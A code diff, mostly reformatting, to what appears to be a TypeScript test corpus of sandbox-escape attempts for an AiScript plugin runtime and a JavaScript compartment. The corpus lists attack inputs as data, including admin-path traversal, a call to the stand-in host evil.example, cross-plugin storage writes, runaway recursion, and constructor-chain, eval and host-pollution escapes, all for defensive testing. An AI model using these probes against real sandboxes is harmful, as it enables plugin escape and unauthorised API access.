@@ -7,12 +7,28 @@
 
 /** AiScript run as a plugin: it escapes if it prints LEAK or makes a forbidden host call. */
 /** `runaway`: never finishes by itself; it must be stopped from outside (the page terminates the worker). */
-export interface AiScriptAttempt { kind: 'aiscript'; name: string; line: '0.19' | '1'; code: string; runaway?: boolean }
+export interface AiScriptAttempt {
+  kind: 'aiscript';
+  name: string;
+  line: '0.19' | '1';
+  code: string;
+  runaway?: boolean;
+}
 /** JavaScript evaluated in a plugin compartment (as if the interpreter were subverted): escapes if it returns true. */
-export interface JsAttempt { kind: 'js'; name: string; code: string }
+export interface JsAttempt {
+  kind: 'js';
+  name: string;
+  code: string;
+}
 export type Attempt = AiScriptAttempt | JsAttempt;
 
-const ai = (name: string, code: string, line: '0.19' | '1' = '1', runaway = false): AiScriptAttempt => ({ kind: 'aiscript', name, line, code, runaway });
+const ai = (name: string, code: string, line: '0.19' | '1' = '1', runaway = false): AiScriptAttempt => ({
+  kind: 'aiscript',
+  name,
+  line,
+  code,
+  runaway,
+});
 const js = (name: string, code: string): JsAttempt => ({ kind: 'js', name, code });
 
 export const escapeCorpus: readonly Attempt[] = [
@@ -29,7 +45,7 @@ export const escapeCorpus: readonly Attempt[] = [
   ai('Mk:api with ../', 'Mk:api("../../admin/show-users", {})'),
   ai('Mk:api with a full URL', 'Mk:api("https://evil.example/api/i", {})'),
   ai('Mk:api with a protocol-relative ..', 'Mk:api("i/..//evil", {})', '0.19'),
-  ai('other plugins\' storage', 'Mk:save("secret", "LEAK")'),
+  ai("other plugins' storage", 'Mk:save("secret", "LEAK")'),
   // AiScript calls are asynchronous, so unbounded recursion grows the heap rather than the
   // stack: like an endless loop, it is stopped from outside.
   ai('deep recursion', '@f(n) { f(n + 1) }\nf(0)\n<: "LEAK"', '1', true),
@@ -49,7 +65,10 @@ export const escapeCorpus: readonly Attempt[] = [
   js('JS: sloppy this', 'return (function () { return this; })() !== undefined'),
   js('JS: Function constructor', 'return typeof Function("return fetch")() !== "undefined"'),
   js('JS: constructor chain', 'return typeof (() => 0).constructor("return fetch")() !== "undefined"'),
-  js('JS: async function constructor', 'return Object.getPrototypeOf(async () => 0).constructor("return typeof fetch")().then((t) => t !== "undefined")'),
+  js(
+    'JS: async function constructor',
+    'return Object.getPrototypeOf(async () => 0).constructor("return typeof fetch")().then((t) => t !== "undefined")',
+  ),
   js('JS: eval', 'return eval("typeof fetch") !== "undefined"'),
   js('JS: host function constructor', 'return typeof setTimeout.constructor("return fetch")() !== "undefined"'),
   js('JS: endowed crypto constructor', 'return typeof crypto.getRandomValues.constructor.constructor("return fetch")() !== "undefined"'),
@@ -59,6 +78,9 @@ export const escapeCorpus: readonly Attempt[] = [
   js('JS: host object pollution (Math)', 'try { Math.random = () => 0; } catch {} return Math.random() === 0'),
   js('JS: host object pollution (timers)', 'try { setTimeout.call = () => 0; setTimeout.leak = 1; } catch {} return setTimeout.leak === 1'),
   js('JS: host Date pollution', 'try { Date.prototype.getTime = () => 0; } catch {} return new Date(5).getTime() === 0'),
-  js('JS: global object keys', 'return Reflect.ownKeys(globalThis).some((k) => ["fetch", "window", "self", "postMessage", "localStorage", "document"].includes(String(k)))'),
+  js(
+    'JS: global object keys',
+    'return Reflect.ownKeys(globalThis).some((k) => ["fetch", "window", "self", "postMessage", "localStorage", "document"].includes(String(k)))',
+  ),
   js('JS: string timer', 'setTimeout("globalThis.leaked = 1", 0); return false'),
 ];
